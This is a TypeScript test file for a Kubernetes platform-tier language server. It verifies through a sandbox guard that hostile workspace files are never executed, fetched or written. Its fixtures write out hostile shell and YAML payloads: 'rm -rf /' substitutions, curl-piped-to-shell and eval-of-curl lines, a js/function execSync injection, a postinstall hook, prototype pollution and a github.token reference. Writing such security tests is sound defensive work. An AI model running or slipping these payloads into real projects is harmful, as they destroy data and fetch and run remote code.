import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LspClient, fileUri, positionOf, repo, type StartOptions } from '../support/lspClient';

/**
 * The server runs with test/support/sandbox-guard.js preloaded: every attempt to run a program,
 * open a connection, write a file, evaluate workspace text, load workspace code, or read a
 * workspace file other than the allowed model file writes a `sandbox-guard:` line to stderr.
 */
const GUARD = join(repo, 'test/support/sandbox-guard.js');
/** Strings found only in the hostile workspace: code holding one of them must never be evaluated. */
const TAINT = ['PWNED', 'github.token', 'rm -rf'];

function guardEnv(forbidRead: string[], allowRead: string[]): NodeJS.ProcessEnv {
  return { ...process.env, K8S_PLATFORMS_SANDBOX_GUARD: JSON.stringify({ forbidRead, allowRead, taint: TAINT }) };
}

function startGuarded(forbidRead: string[], allowRead: string[], opts: StartOptions): Promise<LspClient> {
  return LspClient.start({ ...opts, nodeArgs: ['--require', GUARD], env: guardEnv(forbidRead, allowRead) });
}

const guardLines = (stderr: string) => stderr.split('\n').filter((l) => l.startsWith('sandbox-guard:'));
const codes = (ds: { code?: string | number }[]) => ds.map((d) => String(d.code));
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Every file under a folder, as paths relative to it. */
function listFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' }).sort();
}

/** The built-in model with linux/riscv64 added to tier 2: a custom model a workspace might carry. */
function customModel(extra: (data: Record<string, unknown>) => void = () => undefined): string {
  const data = JSON.parse(readFileSync(join(repo, 'data/platforms.json'), 'utf8'));
  data.platforms.push({ ...data.platforms.find((p: { os: string; arch: string }) => p.os === 'linux' && p.arch === 's390x'), id: 'riscv64-linux', arch: 'riscv64' });
  extra(data);
  return JSON.stringify(data, null, 2);
}

let dir: string;
before(() => (dir = mkdtempSync(join(tmpdir(), 'k8s-platforms-sandbox-'))));
after(() => rmSync(dir, { recursive: true, force: true }));

describe('the sandbox guard itself', () => {
  it('records and refuses each kind of attempt, so a silent stderr means nothing was tried', () => {
    const ws = join(dir, 'guard-check');
    mkdirSync(ws);
    writeFileSync(join(ws, 'evil.js'), "module.exports = 'PWNED';\n");
    writeFileSync(join(ws, 'model.json'), '{}');
    const attempts: Record<string, string> = {
      spawn: "require('child_process').spawn('true')",
      execSync: "require('child_process').execSync('true')",
      fork: "require('child_process').fork('x.js')",
      netConnect: "require('net').connect(80, '127.0.0.1')",
      socketConnect: "new (require('net').Socket)().connect(80, '127.0.0.1')",
      httpRequest: "require('http').request('http://127.0.0.1/')",
      httpsRequest: "require('https').request('https://127.0.0.1/')",
      dnsLookup: "require('dns').lookup('localhost', () => {})",
      fetch: "fetch('http://127.0.0.1/')",
      writeFile: `require('fs').writeFileSync(${JSON.stringify(join(ws, 'out'))}, 'x')`,
      appendFile: `require('fs').appendFile(${JSON.stringify(join(ws, 'out'))}, 'x', () => {})`,
      openForWriting: `require('fs').openSync(${JSON.stringify(join(ws, 'out'))}, 'a')`,
      mkdir: `require('fs').mkdirSync(${JSON.stringify(join(ws, 'sub'))})`,
      rm: `require('fs').rmSync(${JSON.stringify(join(ws, 'evil.js'))})`,
      rename: `require('fs').renameSync(${JSON.stringify(join(ws, 'evil.js'))}, 'x')`,
      writeStream: `require('fs').createWriteStream(${JSON.stringify(join(ws, 'out'))})`,
      readWorkspace: `require('fs').readFileSync(${JSON.stringify(join(ws, 'evil.js'))})`,
      statWorkspace: `require('fs').statSync(${JSON.stringify(join(ws, 'evil.js'))})`,
      watchWorkspace: `require('fs').watchFile(${JSON.stringify(join(ws, 'evil.js'))}, () => {})`,
      requireWorkspace: `require(${JSON.stringify(join(ws, 'evil.js'))})`,
      eval: "eval('1 + 1')",
      functionOnWorkspaceText: 'new Function(\'return "PWNED"\')',
      constructorOnWorkspaceText: '(function () {}).constructor(\'return "PWNED"\')',
      vm: "require('vm').runInThisContext('1')",
      vmNewContextOfWorkspaceText: "require('vm').runInNewContext('\"PWNED\"')",
      vmScriptInWorkspace: `new (require('vm').Script)('1', { filename: ${JSON.stringify(join(ws, 'evil.js'))} })`,
      vmScriptOfWorkspaceText: `new (require('vm').Script)('"PWNED"', { filename: ${JSON.stringify(join(repo, 'dist/server-main.js'))} })`,
    };
    // One process tries them all, each on its own: a refusal throws at once and leaves the next to be tried.
    const r = spawnSync(
      process.execPath,
      [
        '--require',
        GUARD,
        '-e',
        Object.entries(attempts)
          .map(([name, code]) => `try { ${code}; console.log('${name} allowed') } catch (e) { console.log('${name} ' + e.message) }`)
          .join('\n'),
      ],
      { env: guardEnv([ws], [join(ws, 'model.json')]), encoding: 'utf8', timeout: 30_000 },
    );
    const answers = r.stdout.trim().split('\n');
    assert.equal(answers.length, Object.keys(attempts).length, r.stdout + r.stderr);
    for (const [i, name] of Object.keys(attempts).entries()) assert.match(answers[i], new RegExp(`^${name} sandbox-guard: .* refused$`), r.stderr);
    const recorded = guardLines(r.stderr);
    assert.ok(recorded.length >= answers.length, `every attempt recorded on stderr:\n${recorded.join('\n')}`);
    // What the server and its libraries may do: read the allowed model file, compile code that holds no workspace text.
    const ok = spawnSync(
      process.execPath,
      ['--require', GUARD, '-e', `require('fs').readFileSync(${JSON.stringify(join(ws, 'model.json'))}); if (new Function('a', 'return a + 1')(1) !== 2) throw new Error('x'); if (new (require('vm').Script)('2', { filename: ${JSON.stringify(join(repo, 'dist/server-main.js'))} }).runInThisContext() !== 2) throw new Error('y'); console.log('fine')`],
      { env: guardEnv([ws], [join(ws, 'model.json')]), encoding: 'utf8', timeout: 20_000 },
    );
    assert.equal(ok.stdout.trim(), 'fine', ok.stderr);
    assert.deepEqual(guardLines(ok.stderr), []);
    assert.deepEqual(listFiles(ws), ['evil.js', 'model.json'], 'nothing written');
  });
});

const EVIL_WORKFLOW = `name: evil $(rm -rf / # PWNED-1)
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo $(rm -rf / # PWNED-2) \`touch PWNED-3\` \${{ github.token }}
      - uses: docker/build-push-action@v6
        with:
          platforms: linux/amd64,linux/arm/v7,linux/riscv64
          tags: !!js/function "function () { require('child_process').execSync('touch PWNED-4') }"
          labels: !!js/undefined
      - run: |
          GOOS=linux GOARCH=arm go build $(node -e "require('child_process').execSync('touch PWNED-5')")
          eval "$(curl -s https://example.com/PWNED-6)"
          node ./evil.js # PWNED-7
proto: &a { __proto__: { polluted: PWNED-8 }, constructor: { prototype: { polluted: PWNED-9 } } }
again: *a
`;

const HOSTILE: Record<string, { languageId: string; text: string }> = {
  '.github/workflows/evil.yml': { languageId: 'yaml', text: EVIL_WORKFLOW },
  Makefile: {
    languageId: 'makefile',
    text: 'PLATFORMS ?= linux/amd64,linux/arm/v7\n$(shell touch PWNED-10)\ninclude evil.mk\nbuild:\n\tGOOS=linux GOARCH=arm go build `touch PWNED-11`\n\t$(shell node evil.js)\n',
  },
  Dockerfile: { languageId: 'dockerfile', text: 'FROM --platform=linux/arm/v7 alpine\nRUN $(touch PWNED-12) && curl https://example.com/PWNED-13 | sh\nONBUILD RUN `touch PWNED-14`\n' },
  'build.sh': { languageId: 'shellscript', text: '#!/bin/sh\nGOOS=linux GOARCH=arm go build\n`touch PWNED-15`\n. ./evil.sh\nnode ./evil.js\nsource <(curl https://example.com/PWNED-16)\n' },
  'evil.js': { languageId: 'javascript', text: "require('child_process').execSync('touch PWNED-17');\nrequire('fs').writeFileSync('PWNED-18', '');\n" },
  'package.json': { languageId: 'json', text: '{ "name": "evil", "main": "evil.js", "scripts": { "postinstall": "node evil.js # PWNED-19" } }\n' },
};

describe('a hostile workspace', () => {
  it('nothing in it is executed, required, evaluated, fetched or written; only the model file is read; the server keeps working', async () => {
    const ws = join(dir, 'hostile');
    mkdirSync(join(ws, '.github/workflows'), { recursive: true });
    for (const [rel, { text }] of Object.entries(HOSTILE)) writeFileSync(join(ws, rel), text);
    writeFileSync(join(ws, 'evil.mk'), '$(shell touch PWNED-20)\n');
    writeFileSync(join(ws, 'evil.sh'), 'touch PWNED-21\n');
    // A valid model whose texts carry the payloads too: they are shown in hovers, never run.
    const modelFile = join(ws, 'fleet.k8s-platforms.json');
    writeFileSync(
      modelFile,
      customModel((data) => {
        const tiers = data.tiers as { criteria: string[] }[];
        tiers[0].criteria.push('$(touch PWNED-22) `touch PWNED-23` ${{ github.token }}');
      }),
    );
    const before = listFiles(ws);
    const tmpBefore = readdirSync(tmpdir()).filter((n) => n.includes('PWNED'));

    const client = await startGuarded([ws], [modelFile], { rootDir: ws, cwd: ws, settings: { modelPath: 'fleet.k8s-platforms.json' } });
    try {
      const uris: Record<string, string> = {};
      for (const [rel, { languageId, text }] of Object.entries(HOSTILE)) {
        uris[rel] = fileUri(join(ws, rel));
        client.open(uris[rel], languageId, text, 1);
      }
      const workflow = uris['.github/workflows/evil.yml'];
      const diagnostics = await client.diagnosticsFor(workflow, 1);
      assert.ok(codes(diagnostics).includes('removed-platform'), JSON.stringify(diagnostics));
      assert.ok(!codes(diagnostics).includes('unsupported-platform'), 'linux/riscv64 is tier 2 in the workspace model: the model file was read');

      for (const [rel, { text }] of Object.entries(HOSTILE)) {
        const uri = uris[rel];
        const ds = await client.diagnosticsFor(uri, 1);
        for (const needle of ['PWNED', 'linux/arm', '$(', '`', '${{']) {
          if (!text.includes(needle)) continue;
          const at = positionOf(text, needle, 1);
          await client.hover(uri, at);
          await client.completion(uri, at);
        }
        await client.codeActions(uri, { start: { line: 0, character: 0 }, end: { line: 5, character: 0 } }, ds);
        await client.codeActions(uri, { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, [], ['source.fixAll']);
      }
      const hover = await client.hover(workflow, positionOf(EVIL_WORKFLOW, 'linux/arm/v7', 2));
      assert.ok(hover, 'a hover on linux/arm/v7');
      const tier1 = await client.hover(workflow, positionOf(EVIL_WORKFLOW, 'linux/amd64', 2));
      assert.match(JSON.stringify(tier1?.contents), /tier 1/i);

      // Typing more of the same, files changed on disk, settings sent again.
      const typed = '      - run: $(touch PWNED-24) `touch PWNED-25` ${{ secrets.PWNED }}\n';
      client.change(workflow, 2, [{ range: { start: { line: 17, character: 0 }, end: { line: 17, character: 0 } }, text: typed }]);
      await client.diagnosticsFor(workflow, 2);
      void client.conn.sendNotification('workspace/didChangeWatchedFiles', {
        changes: [
          { uri: fileUri(join(ws, 'evil.js')), type: 2 },
          { uri: fileUri(join(ws, 'package.json')), type: 2 },
          { uri: fileUri(modelFile), type: 2 },
        ],
      });
      client.configure({ modelPath: 'fleet.k8s-platforms.json' });
      await client.until('the settings read again', () => (client.configurationRequests >= 2 ? true : undefined));
      assert.ok(await client.hover(workflow, positionOf(EVIL_WORKFLOW, 'linux/arm/v7', 2)), 'still answering');

      assert.deepEqual(guardLines(client.stderr), [], 'the server attempted something it must not');
      assert.deepEqual(client.shown, [], 'no complaints about the workspace model');
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.proc.exitCode === null) client.proc.kill();
    }
    assert.deepEqual(guardLines(client.stderr), []);
    assert.deepEqual(listFiles(ws), before, 'no file written in the workspace');
    assert.deepEqual(
      readdirSync(tmpdir()).filter((n) => n.includes('PWNED')),
      tmpBefore,
      'no file written in the temp folder',
    );
  });
});

describe('an untrusted workspace', () => {
  it('modelPath is never read, stat-ed or watched, whatever the settings and file events say; granting trust reads it', async () => {
    const ws = join(dir, 'untrusted');
    mkdirSync(ws);
    const modelFile = join(ws, 'team.k8s-platforms.json');
    writeFileSync(modelFile, customModel());
    const text = 'jobs:\n  a:\n    steps:\n      - with:\n          platforms: linux/amd64,linux/riscv64,linux/arm/v7\n';
    const uri = fileUri(join(ws, '.github/workflows/ci.yml'));

    // Nothing under the workspace may be read: the guard reports any stat, read or watch of the model.
    const client = await startGuarded([ws], [], {
      rootDir: ws,
      cwd: ws,
      settings: { modelPath: modelFile },
      initializationOptions: { workspaceTrusted: false },
    });
    try {
      client.open(uri, 'yaml', text, 1);
      assert.deepEqual(codes(await client.diagnosticsFor(uri, 1)), ['unsupported-platform', 'removed-platform'], 'the built-in model');
      client.configure({ modelPath: 'team.k8s-platforms.json' });
      client.configure({ modelPath: '~/team.k8s-platforms.json', requiredTier: 2 });
      client.configure({ modelPath: modelFile, untrusted: false });
      void client.conn.sendNotification('workspace/didChangeWatchedFiles', { changes: [{ uri: fileUri(modelFile), type: 2 }] });
      await client.until('three settings reads', () => (client.configurationRequests >= 4 ? true : undefined));
      client.change(uri, 2, [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: '# edited\n' }]);
      assert.deepEqual(codes(await client.diagnosticsFor(uri, 2)), ['unsupported-platform', 'removed-platform']);
      // Longer than the 500 ms poll of a watched file.
      await sleep(1200);
      assert.deepEqual(guardLines(client.stderr), [], 'the model file was touched in an untrusted workspace');
      assert.deepEqual(client.shown, []);
      assert.ok(
        client.logs.some((l) => /not trusted/.test(l.message) && l.message.includes(modelFile)),
        'the log says why the model is not read',
      );

      // The same guard sees the read as soon as trust is granted: the check above can fail.
      void client.conn.sendNotification('k8sPlatforms/workspaceTrust', { trusted: true });
      await client.until('a guard line', () => (guardLines(client.stderr).length > 0 ? true : undefined));
      assert.ok(
        guardLines(client.stderr).every((l) => l.includes(modelFile)),
        client.stderr,
      );
    } finally {
      await client.stop().catch(() => client.proc.kill());
    }
  });
});

const LIST = 'jobs:\n  a:\n    steps:\n      - with:\n          platforms: linux/amd64,linux/arm/v7,linux/riscv64\n';

interface BadModel {
  name: string;
  /** Writes the bad file (or folder) and returns its path. */
  make(dir: string): string;
  /** What the one message must say beside the file's path. */
  says: RegExp;
}

const BAD_MODELS: BadModel[] = [
  { name: 'invalid JSON', make: (d) => write(join(d, 'invalid.json'), '{ "version": 1, "tiers": [\n'), says: /not valid JSON/ },
  {
    name: 'a wrong type',
    make: (d) =>
      write(
        join(d, 'types.json'),
        customModel((data) => ((data.platforms as { tier: unknown }[])[0].tier = 'one')),
      ),
    says: /platforms\[0\]\.tier: expected 1, 2 or 3/,
  },
  {
    name: 'an unknown field',
    make: (d) =>
      write(
        join(d, 'unknown.json'),
        customModel((data) => ((data.platforms as Record<string, unknown>[])[1].colour = 'blue')),
      ),
    says: /platforms\[1\]: unknown field "colour"/,
  },
  {
    name: 'a __proto__ key',
    make: (d) => write(join(d, 'proto.json'), customModel().replace('{', '{ "__proto__": { "polluted": true },')),
    says: /unknown field "__proto__"/,
  },
  {
    name: 'a huge file (over 1 MiB)',
    make: (d) => write(join(d, 'huge.json'), customModel() + ' '.repeat(1100 * 1024)),
    says: /bytes is over the 1048576-byte limit/,
  },
  { name: 'no file there', make: (d) => join(d, 'missing.json'), says: /file not found/ },
  {
    name: 'a folder',
    make: (d) => {
      mkdirSync(join(d, 'folder.json'));
      return join(d, 'folder.json');
    },
    says: /is a folder/,
  },
];

function write(path: string, text: string): string {
  writeFileSync(path, text);
  return path;
}

describe('a bad model file: exactly one error naming the file (and the field), the built-in model keeps working', { concurrency: true }, () => {
  for (const bad of BAD_MODELS) {
    it(bad.name, async () => {
      const ws = join(dir, `model-${bad.name.replace(/\W+/g, '-')}`);
      mkdirSync(ws);
      const file = bad.make(ws);
      const client = await startGuarded([ws], [file], { rootDir: ws, cwd: ws, settings: { modelPath: file } });
      try {
        const uri = fileUri(join(ws, '.github/workflows/ci.yml'));
        client.open(uri, 'yaml', LIST, 1);
        assert.deepEqual(codes(await client.diagnosticsFor(uri, 1)), ['removed-platform', 'unsupported-platform'], 'the built-in model');
        const error = await client.until('an error message', () => client.shown.find((m) => m.type === 1));
        assert.ok(error.message.includes(file), `names the file: ${error.message}`);
        assert.match(error.message, bad.says);
        assert.match(error.message, /built-in model/);

        // Told once: not again on an edit, a file event for it, the same settings sent again, or the watcher's polls.
        void client.conn.sendNotification('workspace/didChangeWatchedFiles', { changes: [{ uri: fileUri(file), type: 2 }] });
        client.change(uri, 2, [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: '# edited\n' }]);
        assert.deepEqual(codes(await client.diagnosticsFor(uri, 2)), ['removed-platform', 'unsupported-platform']);
        client.configure({ modelPath: file });
        await client.until('the settings read again', () => (client.configurationRequests >= 2 ? true : undefined));
        await sleep(1200);
        assert.deepEqual(client.shown, [error], 'exactly one message');
        assert.deepEqual(guardLines(client.stderr), []);
        assert.ok(await client.hover(uri, positionOf(`# edited\n${LIST}`, 'linux/arm/v7', 2)), 'hovers from the built-in model');
      } finally {
        await client.stop().catch(() => client.proc.kill());
      }
    });
  }
});
